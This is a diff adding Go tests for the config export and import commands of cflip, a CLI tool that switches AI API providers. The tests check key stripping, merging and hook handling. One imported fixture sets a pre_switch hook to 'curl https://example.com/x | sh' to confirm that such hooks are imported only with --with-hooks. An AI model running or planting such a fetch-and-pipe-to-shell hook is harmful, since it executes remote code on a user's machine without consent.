@@ -0,0 +1,209 @@
+package cli
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/vanducng/cflip/internal/config"
+)
+
+func TestConfigExportImportRoundTrip(t *testing.T) {
+	for _, format := range []string{"toml", "json"} {
+		t.Run(format, func(t *testing.T) {
+			setupTestHome(t)
+			resetFlags(t, configExportCmd, "output", "include-keys", "json")
+
+			cfg, err := config.LoadConfig()
+			if err != nil {
+				t.Fatal(err)
+			}
+			provider := cfg.Providers[glmProvider]
+			provider.ModelMap = map[string]string{"sonnet": "glm-4.6"}
+			cfg.SetProviderConfig(glmProvider, provider)
+			if err := cfg.SetActiveProvider(glmProvider); err != nil {
+				t.Fatal(err)
+			}
+			if err := config.SaveConfig(cfg); err != nil {
+				t.Fatal(err)
+			}
+
+			exportPath := filepath.Join(t.TempDir(), "cflip."+format)
+			_ = configExportCmd.Flags().Set("output", exportPath)
+			_ = configExportCmd.Flags().Set("include-keys", "true")
+			_ = configExportCmd.Flags().Set("json", boolString(format == "json"))
+			if err := runConfigExport(configExportCmd, nil); err != nil {
+				t.Fatalf("export failed: %v", err)
+			}
+
+			// Import on a fresh machine
+			setupTestHome(t)
+			if err := runConfigImport(configImportCmd, []string{exportPath}); err != nil {
+				t.Fatalf("import failed: %v", err)
+			}
+
+			imported, err := config.LoadConfig()
+			if err != nil {
+				t.Fatal(err)
+			}
+			if imported.Provider != glmProvider {
+				t.Errorf("Expected active provider glm, got %s", imported.Provider)
+			}
+			got := imported.Providers[glmProvider]
+			if got.Token != "glm-test-token" || got.ModelMap["sonnet"] != "glm-4.6" {
+				t.Errorf("Provider not round-tripped: %+v", got)
+			}
+		})
+	}
+}
+
+func TestConfigExportStripsKeys(t *testing.T) {
+	setupTestHome(t)
+	resetFlags(t, configExportCmd, "output")
+
+	exportPath := filepath.Join(t.TempDir(), "cflip.toml")
+	_ = configExportCmd.Flags().Set("output", exportPath)
+	if err := runConfigExport(configExportCmd, nil); err != nil {
+		t.Fatalf("export failed: %v", err)
+	}
+
+	data, err := os.ReadFile(exportPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(string(data), "glm-test-token") {
+		t.Errorf("Export without --include-keys must not contain API keys:\n%s", data)
+	}
+}
+
+func TestConfigImportMergeKeepsKeys(t *testing.T) {
+	setupTestHome(t)
+	resetFlags(t, configImportCmd, "merge")
+
+	importPath := filepath.Join(t.TempDir(), "cflip.toml")
+	imported := `provider = "anthropic"
+
+[providers.glm]
+base_url = "https://api.z.ai/api/anthropic"
+
+[providers.glm.model_map]
+opus = "glm-4.6-plus"
+
+[providers.proxy]
+base_url = "https://proxy.example.com"
+`
+	if err := os.WriteFile(importPath, []byte(imported), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	_ = configImportCmd.Flags().Set("merge", "true")
+	if err := runConfigImport(configImportCmd, []string{importPath}); err != nil {
+		t.Fatalf("import --merge failed: %v", err)
+	}
+
+	cfg, err := config.LoadConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	glm := cfg.Providers[glmProvider]
+	if glm.Token != "glm-test-token" {
+		t.Errorf("Merge should keep the existing API key, got %q", glm.Token)
+	}
+	if glm.ModelMap["opus"] != "glm-4.6-plus" {
+		t.Errorf("Merge should add new model mappings, got %v", glm.ModelMap)
+	}
+	if _, exists := cfg.Providers["proxy"]; !exists {
+		t.Error("Merge should add new providers")
+	}
+}
+
+func TestConfigImportReplaceKeepsKeysAndHooks(t *testing.T) {
+	setupTestHome(t)
+	resetFlags(t, configImportCmd, "with-hooks", "force")
+
+	cfg, err := config.LoadConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg.SetProviderConfig("proxy", config.ProviderConfig{Token: "proxy-token", BaseURL: "https://proxy.example.com"})
+	cfg.Hooks = config.Hooks{PreSwitch: "echo local"}
+	if err := config.SaveConfig(cfg); err != nil {
+		t.Fatal(err)
+	}
+
+	// An export made without --include-keys, with hooks of its own
+	importPath := filepath.Join(t.TempDir(), "cflip.toml")
+	imported := `provider = "anthropic"
+
+[providers.glm]
+base_url = "https://open.bigmodel.cn/api/anthropic"
+
+[hooks]
+pre_switch = "curl https://example.com/x | sh"
+`
+	if err := os.WriteFile(importPath, []byte(imported), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	err = runConfigImport(configImportCmd, []string{importPath})
+	if err == nil || !strings.Contains(err.Error(), "proxy") || !strings.Contains(err.Error(), "--force") {
+		t.Fatalf("Expected the import to name the lost key and suggest --force, got %v", err)
+	}
+	if cfg, _ := config.LoadConfig(); cfg.Providers["proxy"].Token != "proxy-token" {
+		t.Fatal("A refused import must not change the config")
+	}
+
+	_ = configImportCmd.Flags().Set("force", "true")
+	captureStdout(t, func() error { return runConfigImport(configImportCmd, []string{importPath}) })
+
+	cfg, err = config.LoadConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	glm := cfg.Providers[glmProvider]
+	if glm.Token != "glm-test-token" || glm.BaseURL != "https://open.bigmodel.cn/api/anthropic" {
+		t.Errorf("Expected the imported glm with its existing key, got %+v", glm)
+	}
+	if _, exists := cfg.Providers["proxy"]; exists {
+		t.Error("Expected providers missing from the file to be replaced away with --force")
+	}
+	if cfg.Hooks.PreSwitch != "echo local" {
+		t.Errorf("Expected the local hooks to be kept, got %q", cfg.Hooks.PreSwitch)
+	}
+
+	_ = configImportCmd.Flags().Set("with-hooks", "true")
+	captureStdout(t, func() error { return runConfigImport(configImportCmd, []string{importPath}) })
+	if cfg, _ := config.LoadConfig(); cfg.Hooks.PreSwitch != "curl https://example.com/x | sh" {
+		t.Errorf("Expected --with-hooks to import the file's hooks, got %q", cfg.Hooks.PreSwitch)
+	}
+}
+
+func TestConfigImportRejectsInvalid(t *testing.T) {
+	setupTestHome(t)
+
+	importPath := filepath.Join(t.TempDir(), "cflip.toml")
+	if err := os.WriteFile(importPath, []byte("provider = \"ghost\"\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+
+	if err := runConfigImport(configImportCmd, []string{importPath}); err == nil {
+		t.Error("Expected an error for a config whose active provider does not exist")
+	}
+
+	cfg, err := config.LoadConfig()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, exists := cfg.Providers[glmProvider]; !exists {
+		t.Error("A rejected import must not change the existing config")
+	}
+}
+
+// boolString formats a bool for a flag value
+func boolString(b bool) string {
+	if b {
+		return "true"
+	}
+	return "false"
+}